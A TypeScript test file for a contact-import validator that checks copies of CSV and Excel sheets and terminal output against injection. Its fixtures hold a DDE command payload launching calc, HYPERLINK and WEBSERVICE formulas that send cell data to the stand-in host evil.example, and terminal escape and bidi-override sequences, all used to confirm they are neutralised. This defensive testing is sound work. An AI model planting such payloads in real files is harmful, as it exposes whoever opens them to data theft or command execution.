/**
 * Cells written to attack whoever opens what we write (issue 17, breaks 8 and 9):
 * formulas in the copies of a sheet, addresses that carry one, and terminal
 * escapes in what we print. Every sheet is built here.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { runValidate } from '../src/commands/validate.js';
import { checkEmail } from '../src/judge/rules.js';
import { validateRow } from '../src/judge/validate.js';
import { createLogger } from '../src/terminal/log.js';
import type { RowResult } from '../src/report/types.js';
import { terminalJson, terminalText } from '../src/terminal/terminal-text.js';
import { runCli } from './helpers/cli.js';
import { useTempDir } from './helpers/tmp.js';
import { unzipParts } from './helpers/unzip.js';

const tmp = useTempDir('contact-import-hostile-');
const log = createLogger('quiet');
const FORMULA_START = /^[=+\-@\t\r]/;
const DDE = "cmd|'/Ccalc'!A0";

let runs = 0;
async function validate(file: string, writeFixed?: string): Promise<{ reportDir: string; rows: RowResult[] }> {
  const reportDir = join(tmp(), `report-${++runs}`);
  await runValidate({ file, read: {}, site: 'intl', contactLimit: 20, reportDir, cwd: tmp(), ...(writeFixed ? { writeFixed } : {}) }, log);
  return { reportDir, rows: (JSON.parse(readFileSync(join(reportDir, 'results.json'), 'utf8')) as { rows: RowResult[] }).rows };
}

/** Every cell of every sheet of a workbook we wrote, as exceljs reads it back. */
async function cellsOf(path: string): Promise<ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const cells: ExcelJS.Cell[] = [];
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

/** The raw XML: no formula element in any worksheet, and the input's formulas nowhere in the file. */
function expectNoFormulaParts(path: string): Map<string, string> {
  const parts = unzipParts(readFileSync(path));
  const sheets = [...parts].filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
  expect(sheets.length).toBeGreaterThan(0);
  for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[\s>/]/);
  for (const [name, xml] of parts) {
    expect([name, xml.includes('cmd|'), xml.includes('HYPERLINK'), xml.includes('WEBSERVICE')]).toEqual([name, false, false, false]);
  }
  return parts;
}

describe('no formula in a copy of a CSV', () => {
  const sheet = [
    'Name,Email,Phone,Title,MessageTypes,Notes',
    `Ann,"Ann <=${DDE.replace(/"/g, '""')}@example.com>",,CEO,ServiceMessage,`,
    'Zhang San,zs@example.com,+86 139 1234 5678,CEO,ServiceMessage,"=HYPERLINK(""http://evil.example/?""&B3,""x"")"',
    'Bob,bob@example.com,,Other,FaultMessage,@SUM(1)',
    'Cy,cy@example.com,,Other,FaultMessage,-2+3',
    'Di,di@example.com,,Other,FaultMessage,"\tleading tab"',
    '',
  ].join('\r\n');

  it('--write-fixed: the address with a formula in it is invalid and not "fixed"; no cell of the copy starts a formula', async () => {
    const file = join(tmp(), 'hostile.csv');
    writeFileSync(file, sheet);
    const { rows } = await validate(file, join(tmp(), 'hostile-fixed.csv'));
    expect(rows[0]).toMatchObject({ row: 2, status: 'invalid' });
    expect(rows[0]!.errors).toEqual([expect.objectContaining({ field: 'EmailAddress', code: 'InvalidParameter.EmailAddress' })]);
    expect(rows[0]!.errors[0]!.suggestion).toBeUndefined();

    const copy = parse(readFileSync(join(tmp(), 'hostile-fixed.csv'), 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const cells = copy.flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    // The cells are kept, marked as text the way results.csv marks them.
    expect(copy[1]![1]).toBe(`Ann <=${DDE}@example.com>`);
    expect(copy[2]!.slice(0, 3)).toEqual(['ZhangSan', 'zs@example.com', "'+86 139 1234 5678"]);
    expect(copy[2]![5]).toBe(`'=HYPERLINK("http://evil.example/?"&B3,"x")`);
    expect(copy.slice(3, 6).map((row) => row[5])).toEqual(["'@SUM(1)", "'-2+3", "'\tleading tab"]);

    // The copy reads back as the sheet did: a phone marked as text is the same phone.
    const again = await validate(join(tmp(), 'hostile-fixed.csv'));
    expect(again.rows.map((r) => r.status)).toEqual(['invalid', 'valid', 'valid', 'valid', 'valid']);
  });

  it('annotated.xlsx of a CSV: a cell that starts with "=" is a string cell, never a formula', async () => {
    const file = join(tmp(), 'annotate-me.csv');
    writeFileSync(file, sheet);
    const { reportDir } = await validate(file);
    const annotated = join(reportDir, 'annotated.xlsx');
    const parts = unzipParts(readFileSync(annotated));
    for (const [name, xml] of parts) if (name.startsWith('xl/worksheets/')) expect(xml).not.toMatch(/<f[\s>/]/);
    const cells = await cellsOf(annotated);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const hyperlink = cells.find((cell) => cell.address === 'F3')!;
    expect([hyperlink.type, hyperlink.value]).toEqual([ExcelJS.ValueType.String, '=HYPERLINK("http://evil.example/?"&B3,"x")']);
  });
});

describe('no formula in a copy of a workbook', () => {
  /** A sheet whose cells, validations and conditional formats carry formulas, and a second sheet with one more. */
  async function hostileWorkbook(name: string): Promise<string> {
    const book = new ExcelJS.Workbook();
    const contacts = book.addWorksheet('Contacts');
    contacts.addRows([
      ['Name', 'Email', 'Title', 'MessageTypes', 'Notes'],
      ['Ann', { formula: 'HYPERLINK("http://evil.example/?"&A2,"ann@example.com")', result: 'ann@example.com' }, 'CEO', 'ServiceMessage', { formula: DDE, result: 0 }],
      ['Zhang San', 'zs@example.com', 'CEO', 'ServiceMessage', '=only text, typed with a quote'],
      ['Bob', 'bob@example.com', 'cto', 'FaultMessage', { formula: 'WEBSERVICE("http://evil.example/")', result: '' }],
    ]);
    // exceljs has this, its types do not.
    const validations = (contacts as unknown as { dataValidations: { add(range: string, validation: ExcelJS.DataValidation): void } }).dataValidations;
    validations.add('C2:C9', { type: 'list', allowBlank: true, formulae: ['"CEO,Other,TechnicalDirector"'] });
    validations.add('D2:D9', { type: 'list', allowBlank: true, formulae: [DDE] });
    validations.add('F2:F9', { type: 'list', allowBlank: true, formulae: ["'Job titles'!$A$1:$A$6"] });
    validations.add('G2:G9', { type: 'list', allowBlank: true, formulae: ["'[1]Other book'!$A$1:$A$6"] });
    contacts.addConditionalFormatting({
      ref: 'A2:A9',
      rules: [{ type: 'expression', priority: 1, formulae: [DDE], style: { fill: { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FFFF0000' } } } }],
    });
    book.addWorksheet('Sums').addRow([1, { formula: 'A1+1', result: 2 }]);
    const path = join(tmp(), name);
    await book.xlsx.writeFile(path);
    // The reproducer is what it claims: its worksheets carry those formulas.
    const parts = unzipParts(readFileSync(path));
    expect(parts.get('xl/worksheets/sheet1.xml')).toMatch(/<f>HYPERLINK/);
    expect(parts.get('xl/worksheets/sheet1.xml')).toContain('cmd|');
    expect(parts.get('xl/worksheets/sheet1.xml')).toContain('Other book');
    return path;
  }

  it.each([
    ['the fixed copy', 'fixed.xlsx'],
    ['annotated.xlsx', 'annotated.xlsx'],
  ])('%s: every formula is its cached value; inert validations are kept, the others dropped', async (_, output) => {
    const file = await hostileWorkbook(`hostile-${output}`);
    const { reportDir, rows } = await validate(file, join(tmp(), `copy-of-${output}`));
    expect(rows.map((r) => [r.row, r.status])).toEqual([
      [2, 'valid'],
      [3, 'invalid'],
      [4, 'invalid'],
    ]);
    const written = output === 'fixed.xlsx' ? join(tmp(), `copy-of-${output}`) : join(reportDir, 'annotated.xlsx');
    const parts = expectNoFormulaParts(written);
    const contacts = parts.get('xl/worksheets/sheet1.xml');
    expect(contacts).toContain('<formula1>&quot;CEO,Other,TechnicalDirector&quot;</formula1>');
    expect(contacts).toContain('<formula1>&apos;Job titles&apos;!$A$1:$A$6</formula1>');
    expect(contacts).not.toContain('Other book'); // another workbook: a link out of the file

    const cells = await cellsOf(written);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const value = (address: string, sheet = 'Contacts') => cells.filter((cell) => cell.worksheet.name === sheet && cell.address === address).map((cell) => cell.value);
    expect(value('B2')).toEqual(['ann@example.com']);
    expect(value('E2')).toEqual([0]);
    expect(value('E3')).toEqual(['=only text, typed with a quote']);
    expect(value('E4')).toEqual([]); // its cached result was empty text
    expect(value('B1', 'Sums')).toEqual([2]);
  });
});

describe('the email rule', () => {
  it.each([
    `=${DDE}@example.com`,
    'ann<x@example.com',
    'ann>x@example.com',
    'a|b@example.com',
    "o'brien@example.com",
    '"ann"@example.com',
    'ann x@example.com',
    '=ann@example.com',
    '+ann@example.com',
    '-ann@example.com',
    'ann!@example.com',
    'ann\u202e@example.com',
  ])('%j is InvalidParameter.EmailAddress', (email) => {
    expect(checkEmail(email).map((p) => p.code)).toEqual(['InvalidParameter.EmailAddress']);
  });

  it.each(['ann@example.com', 'a.b+c_d%e-f@mail.example.co', 'A1@example.com', '_ops@example.com'])('%j is valid', (email) => {
    expect(checkEmail(email)).toEqual([]);
  });

  it('names the character that cannot be in an address', () => {
    expect(checkEmail('a|b@example.com')[0]!.detail).toBe('"a|b@example.com" is not a valid email address: "|" cannot be part of one');
    expect(checkEmail('-ann@example.com')[0]!.detail).toMatch(/: it cannot start with "-"$/);
  });

  it('a display name is cut off only when what is left is a valid address', () => {
    const row = { Name: 'Ann', Title: 'CEO', MessageTypes: 'ServiceMessage' };
    const hostile = validateRow({ ...row, EmailAddress: `Ann <=${DDE}@example.com>` }, 'intl');
    expect(hostile.ok).toBe(false);
    if (!hostile.ok) {
      expect(hostile.problems).toEqual([expect.objectContaining({ code: 'InvalidParameter.EmailAddress' })]);
      expect(hostile.problems[0]!.suggestion).toBeUndefined();
    }
    const plain = validateRow({ ...row, EmailAddress: 'Ann <ann@example.com>' }, 'intl');
    if (!plain.ok) expect(plain.problems).toEqual([expect.objectContaining({ suggestion: 'ann@example.com', unambiguous: true })]);
    expect(plain.ok).toBe(false);
  });
});

describe('terminal escapes in cells', () => {
  const RAW = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

  it('are shown escaped: controls as \\xNN, bidi overrides as \\uNNNN', () => {
    expect(terminalText('a\x1b[31mred\x1b[0m')).toBe('a\\x1b[31mred\\x1b[0m');
    expect(terminalText('\x1b]0;owned\x07')).toBe('\\x1b]0;owned\\x07');
    expect(terminalText('x\r\ny\tz\x9b')).toBe('x\\r\\ny\\tz\\x9b');
    expect(terminalText('abc\u202Efdp.exe\u2066\u2069')).toBe('abc\\u202efdp.exe\\u2066\\u2069');
    expect(terminalText('张伟 naïve')).toBe('张伟 naïve');
    const json = terminalJson({ header: 'x\u202e\x9b\x1b' });
    expect(json).not.toMatch(RAW);
    expect(JSON.parse(json)).toEqual({ header: 'x\u202e\x9b\x1b' });
  });

  it('a validate run prints problem lines, the summary and --json without one raw control character', async () => {
    const file = join(tmp(), 'escapes.csv');
    writeFileSync(
      file,
      [
        'Name,Email,Title,MessageTypes,"Notes\x1b]0;owned\x07"',
        'Ann\x1b[2J,ann@example.com,CEO,ServiceMessage,x',
        'Bob,bob@example.com,"CEO\u202e",ServiceMessage,x',
        'Cy,cy@example.com,"Other\x9b31m",ServiceMessage,x',
        '',
      ].join('\r\n'),
    );
    const run = await runCli(['validate', file, '--report-dir', join(tmp(), 'escapes-report')]);
    expect(run.code).toBe(1);
    expect(run.stderr).not.toMatch(RAW);
    expect(run.stderr).toContain('"Ann\\x1b[2J"');
    expect(run.stderr).toContain('"CEO\\u202e"');
    expect(run.stderr).toContain('"Other\\x9b31m"');
    expect(run.stderr).toContain('ignored columns: "Notes\\x1b]0;owned\\x07"');

    const json = await runCli(['validate', file, '--json', '--report-dir', join(tmp(), 'escapes-json')]);
    expect(json.stdout).not.toMatch(RAW);
    expect((JSON.parse(json.stdout) as { input: { ignoredColumns: string[] } }).input.ignoredColumns).toEqual(['Notes\x1b]0;owned\x07']);
  });
});
